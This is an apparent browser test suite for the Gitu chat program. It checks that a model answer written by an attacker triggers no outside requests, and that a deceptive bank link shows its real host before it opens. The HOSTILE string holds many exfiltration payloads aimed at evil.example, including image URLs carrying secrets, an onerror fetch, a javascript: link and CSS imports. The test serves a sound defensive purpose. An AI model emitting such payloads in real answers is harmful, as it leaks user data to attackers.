"""An answer written by an attacker: whatever stands in it, the browser asks nobody but Gitu."""

import json
import re
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page, Request

from tests.browser.house import House, OpenWindow
from tests.browser.seeing import expect
from tests.browser.talking import ask, open_chat
from tests.servers.script import say, when_said

pytestmark = pytest.mark.browser

EVIL = "evil.example"
HOSTILE = f"""
![direct](https://{EVIL}/a.png?secret=1)
![reference][pixel]
![nested ![inner](https://{EVIL}/b.png)](https://{EVIL}/c.png)
[![picture in a link](https://{EVIL}/d.png)](https://{EVIL}/e)
<img src="https://{EVIL}/f.png" srcset="https://{EVIL}/g.png 2x" onerror="fetch('https://{EVIL}/h')">

<style>@import "https://{EVIL}/i.css"; body {{ background: url(https://{EVIL}/j.png) }}</style>

<link rel="stylesheet" href="https://{EVIL}/k.css"><link rel="prefetch" href="https://{EVIL}/l">
<link rel="dns-prefetch" href="https://{EVIL}"><meta http-equiv="refresh" content="0; url=https://{EVIL}/m">

<svg><image href="https://{EVIL}/n.svg"/><use href="https://{EVIL}/o.svg#x"/></svg>
<iframe src="https://{EVIL}/p"></iframe> <object data="https://{EVIL}/q"></object> <video poster="https://{EVIL}/r">
<script src="https://{EVIL}/s.js"></script> <div style="background:url('https://{EVIL}/t.png')">styled</div>

https://{EVIL}/auto?secret=1 and www.{EVIL}/auto and <https://{EVIL}/angle>
[javascript](javascript:fetch('https://{EVIL}/u')) [data](data:text/html,<img src=https://{EVIL}/v>)
[our bank](https://bank.example@{EVIL}/login?secret=blue+kettle#part) [half a link](https://{EVIL}/w

```html
<img src="https://{EVIL}/x.png">
```

| a | b |
|---|---|
| ![cell](https://{EVIL}/y.png) | <img src=https://{EVIL}/z.png> |

[pixel]: https://{EVIL}/pixel.gif?secret=1

That was all.
"""


class Asked:
    """Every request that a window makes, whoever it is for."""

    def __init__(self, page: Page) -> None:
        self.outside: list[str] = []
        self._own = ""
        page.context.on("request", self._note)

    def _note(self, request: Request) -> None:
        self._own = self._own or urlsplit(request.url).netloc
        if request.url.startswith(("http", "ws")) and urlsplit(request.url).netloc != self._own:
            self.outside.append(request.url)


@pytest.mark.slow
def test_no_request_leaves_for_what_a_hostile_answer_holds(house: House, open_window: OpenWindow) -> None:
    house.model.script.rules.append(when_said("Show me the hostile page", say(HOSTILE)))
    sami = house.person()
    page = open_window(sami).page
    asked = Asked(page)
    page.goto(house.program.url)
    ask(page, "Show me the hostile page")
    expect(page.get_by_text("That was all.")).to_be_visible()
    expect(page.locator("article[aria-busy=true]")).to_have_count(0)
    page.reload()  # the stored answer is drawn by another way than the streamed one
    expect(page.get_by_text("That was all.")).to_be_visible()
    for link in page.get_by_role("log").get_by_role("link").all():
        link.hover()
        link.click(button="middle")
    page.wait_for_load_state("networkidle")
    assert asked.outside == []
    assert page.locator("article img, article iframe, article svg image, article script, article style").count() == 0
    assert page.locator(f"article [href*='{EVIL}'], article [src*='{EVIL}']").count() == 0
    assert len(page.context.pages) == 1


def test_a_link_shows_its_whole_address_before_it_leaves(house: House, open_window: OpenWindow) -> None:
    house.model.script.rules.append(
        when_said("Where is my bank", say(f"[bank.example](https://bank.example@{EVIL}/login?secret=blue+kettle)"))
    )
    page = open_chat(open_window, house, house.person())
    referrers: list[str | None] = []
    page.context.route(
        re.compile(rf"{EVIL}/login"),
        lambda route: (referrers.append(route.request.headers.get("referer")), route.fulfill(body="opened"))[-1],
    )
    ask(page, "Where is my bank")
    link = page.get_by_role("link", name="bank.example")
    link.focus()
    page.keyboard.press("Enter")
    dialog = page.get_by_role("dialog", name="This link leaves Gitu")
    expect(dialog.get_by_text(f"https://bank.example@{EVIL}/login?secret=blue+kettle")).to_be_visible()
    expect(dialog.locator("strong").filter(has_text=EVIL)).to_have_text(EVIL)
    expect(dialog.get_by_text("Its own words name another place:")).to_be_visible()
    page.keyboard.press("Enter")  # the way back has the focus
    expect(dialog).to_have_count(0)
    assert referrers == []
    link.click()
    with page.context.expect_page() as opened:
        dialog.get_by_role("link", name="Open it").click()
    expect(opened.value.get_by_text("opened")).to_be_visible()
    assert opened.value.evaluate("window.opener") is None
    assert referrers == [None], json.dumps(referrers)


def test_a_link_to_a_screen_of_gitu_goes_there_directly(house: House, open_window: OpenWindow) -> None:
    house.model.script.rules.append(when_said("What was done", say("See [the log](/activity).")))
    page = open_chat(open_window, house, house.person())
    ask(page, "What was done")
    page.get_by_role("link", name="the log").click()
    expect(page.get_by_role("heading", level=1, name="Activity")).to_be_visible()
